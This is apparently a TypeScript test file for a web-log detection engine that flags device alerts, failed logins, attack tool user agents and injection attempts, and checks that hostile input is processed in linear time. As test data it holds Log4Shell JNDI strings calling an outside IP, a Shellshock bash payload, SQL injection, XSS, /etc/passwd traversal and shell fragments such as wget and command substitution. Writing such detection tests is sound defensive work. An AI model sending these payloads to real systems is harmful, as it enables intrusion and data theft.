// Are device alerts, failed logins, tools and attacks in headers detected, and does hostile input cost no more than its length?
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks are written that way
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createDetect, DEVICE_ALERT, FAILED_LOGIN } from '../../../processors/detect/index.ts'
import type { Detection } from '../../../schemas/detection.ts'
import { type Event, emptyEvent } from '../../../schemas/event.ts'

const detect = createDetect()

function on(fields: Partial<Event>): readonly Detection[] {
  return detect(Object.assign(emptyEvent(), fields))
}

function ids(fields: Partial<Event>): string[] {
  return on(fields).map((detection) => detection.ruleId)
}

describe('no signal', () => {
  it('gives the same frozen empty list each time', () => {
    const none = on({
      url_original: '/berita',
      user_agent_original: 'Mozilla/5.0 (X11; Linux x86_64)',
      http_referrer: 'https://www.kpu.go.id/',
    })
    expect(none).toHaveLength(0)
    expect(Object.isFrozen(none)).toBe(true)
    expect(on({})).toBe(none)
  })
})

describe('device alerts', () => {
  it.each([
    [19, undefined],
    [20, 'low'],
    [39, 'low'],
    [40, 'medium'],
    [70, 'high'],
    [89, 'high'],
    [90, 'critical'],
    [100, 'critical'],
  ])('of severity %i are %s', (event_severity, severity) => {
    const [detection] = on({ event_severity, rule_name: 'ET SCAN Nmap' })
    expect(detection?.severity).toBe(severity)
    if (severity !== undefined) {
      expect(detection).toMatchObject({
        ruleId: DEVICE_ALERT,
        title: 'ET SCAN Nmap',
        field: 'event_severity',
        value: String(event_severity),
      })
    }
  })

  it('need a signature: a severity alone is no alert', () => {
    expect(ids({ event_severity: 90 })).toEqual([])
  })
})

describe('failed logins', () => {
  it.each<[string, Partial<Event>, boolean]>([
    ['program says so', { event_category: 'authentication', event_outcome: 'failure', user_name: 'root' }, true],
    ['program says success', { event_category: 'authentication', event_outcome: 'success' }, false],
    ['no outcome', { event_category: 'authentication', event_outcome: 'unknown' }, false],
    ['other failure', { event_category: 'web', event_outcome: 'failure' }, false],
    [
      '401 to a named user',
      { event_category: 'web', http_status_code: 401, user_name: 'siti', url_original: '/' },
      true,
    ],
    [
      '401 to a POST on a login page',
      { http_status_code: 401, http_method: 'POST', url_original: '/user/login' },
      true,
    ],
    [
      '401 to a POST on a token endpoint',
      { http_status_code: 401, http_method: 'POST', url_original: '/oauth/token', url_path: '/oauth/token' },
      true,
    ],
    ['401 to a GET', { http_status_code: 401, http_method: 'GET', url_original: '/user/login' }, false],
    [
      '401 to a POST elsewhere',
      { http_status_code: 401, http_method: 'POST', url_original: '/catalogue/blogin' },
      false,
    ],
    [
      '200 to a POST on a login page',
      { http_status_code: 200, http_method: 'POST', url_original: '/user/login' },
      false,
    ],
  ])('%s', (_case, fields, failed) => {
    expect(ids(fields).includes(FAILED_LOGIN)).toBe(failed)
  })
})

describe('headers', () => {
  it.each([
    ['user_agent_original', '${jndi:ldap://198.51.100.1/a}', 'jndi_lookup'],
    ['user_agent_original', '() { :; }; /bin/bash -c id', 'shellshock'],
    ['user_agent_original', "Mozilla/5.0' AND SLEEP(5)-- -", 'sql_injection'],
    ['user_agent_original', '<script>alert(1)</script>', 'cross_site_scripting'],
    ['http_referrer', '${jndi:dns://198.51.100.1}', 'jndi_lookup'],
    ['http_referrer', "https://a.example/?id=1'+or+'1'='1", 'sql_injection'],
    ['http_referrer', 'https://a.example/%3Cscript%3E', 'cross_site_scripting'],
  ] as const)('%s: %s', (field, value, rule) => {
    const found = on({ [field]: value }).find((detection) => detection.ruleId === `siaga.builtin.${rule}`)
    expect(found).toMatchObject({ field })
  })

  it.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Linux; U; Android 4.4.2; en-US; HM NOTE 1W Build/KOT49H) AppleWebKit/534.30',
    'Dalvik/2.1.0 (Linux; U; Android 13; SM-A536E Build/TP1A.220624.014)',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'curl/8.5.0',
    'Pemilu2024/1.0 CFNetwork/1408.0.4 Darwin/22.5.0',
    "Siti's iPhone/1.0",
    'Grabber/1.0',
  ])('an ordinary agent raises nothing: %s', (user_agent_original) => {
    expect(ids({ user_agent_original })).toEqual([])
  })

  it.each([
    'https://www.google.com/search?q=hasil%20pemilu%202024',
    'https://www.kpu.go.id/cari?q=a+b',
    'android-app://com.google.android.gm/',
    'https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.kpu.go.id%2F&h=AT1',
    "https://a.example/o'brien",
  ])('an ordinary referrer raises nothing: %s', (http_referrer) => {
    expect(ids({ http_referrer })).toEqual([])
  })

  it.each([
    'sqlmap/1.8',
    'Mozilla/5.0 (Nikto/2.5.0)',
    'Nuclei - Open-source project',
    'masscan/1.3',
    'WPScan v3',
    'Fuzz Faster U Fool v2',
    'gobuster/3.6',
  ])('an attack tool is one: %s', (user_agent_original) => {
    expect(ids({ user_agent_original })).toContain('siaga.builtin.attack_tool')
  })
})

describe('detections', () => {
  it('carry the field and what matched, at most 200 characters and without control characters', () => {
    const [detection] = on({ url_original: `/?a=1&f=../../../../etc/passwd%00${'x'.repeat(5_000)}` })
    expect(detection).toMatchObject({ field: 'url_original', severity: 'high', technique: 'T1190' })
    const long = on({ url_original: `/%2e%2e/${'y'.repeat(5_000)}%0a` })[0]
    expect(long?.value).toHaveLength(200)
    for (const { value } of on({ url_original: '/?x=1&y=%0aset-cookie:a' })) expect(value).not.toMatch(/\p{Cc}|\xff/u)
  })

  it('are the same for the same event, whatever came before', () => {
    const attack = { url_original: "/?id=1'%20or%201=1--%20-", user_agent_original: 'sqlmap/1.8' }
    const first = on(attack)
    on({ url_original: '/', user_agent_original: 'x' })
    expect(on(attack)).toEqual(first)
    expect(createDetect()(Object.assign(emptyEvent(), attack))).toEqual(first)
  })

  it('of a list that is shared are never changed by a later event', () => {
    const agent = { user_agent_original: 'sqlmap/1.8' }
    const before = on(agent).length
    on({ ...agent, event_category: 'authentication', event_outcome: 'failure', event_severity: 90, rule_name: 'x' })
    expect(on(agent)).toHaveLength(before)
  })
})

describe('hostile input', () => {
  it('never throws', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.string({ maxLength: 300 }),
      fc.constantFrom('%'.repeat(400_000), '\ud800%', '('.repeat(50_000)),
    )
    fc.assert(
      fc.property(
        text,
        text,
        text,
        fc.integer(),
        (url_original, user_agent_original, http_referrer, http_status_code) => {
          for (const { value, title } of on({ url_original, user_agent_original, http_referrer, http_status_code })) {
            expect(value.length).toBeLessThanOrEqual(200)
            expect(title).not.toBe('')
          }
        },
      ),
    )
  })

  const pieces = [
    '%25',
    'select (',
    "' or ",
    '../',
    '<a ',
    '${',
    '{{',
    'union select ',
    'if (',
    '1',
    'a',
    '/upload/',
    '=http://',
    ' ',
    '`a',
    ' wget -a',
    ';cat',
    'system(',
    '${lower:',
    '/*',
    '/*!',
    '/cgi-bin/',
    '(a',
    'convert (',
    'case when ',
    'data:',
    '/elfinder/',
    'insert into a',
    'style="',
    'o:1:"',
    'update a ',
    "'a",
    'select a,b ',
    'select ',
    '<a b="',
    "or 'a",
    '/wp-content/plugins/',
    '&',
    '[[',
    '\\x22',
    '%0a',
    '|',
    '$(',
    '"',
    '=',
    '-',
    '.php',
    '/images/a',
    '.',
    '__',
    '::',
    '/autodiscover/autodiscover.json?',
    '/components/com_a/',
    '(|(a=',
  ]
  it.each(pieces)('made of %j is read in time linear in its length', (piece) => {
    const url = (length: number) => `/?q=${piece.repeat(Math.ceil(length / piece.length))}`.slice(0, length)
    const time = (length: number): number => {
      const event = Object.assign(emptyEvent(), { url_original: url(length) })
      let best = Infinity
      for (let round = 0; round < 5; round++) {
        const start = performance.now()
        detect(event)
        best = Math.min(best, performance.now() - start)
      }
      return best
    }
    // About 2 ms on a quiet machine; a quadratic pattern would take seconds. Beyond 16 KiB nothing is read.
    expect(time(16_000)).toBeLessThan(100)
    expect(time(500_000)).toBeLessThan(150)
  })
})
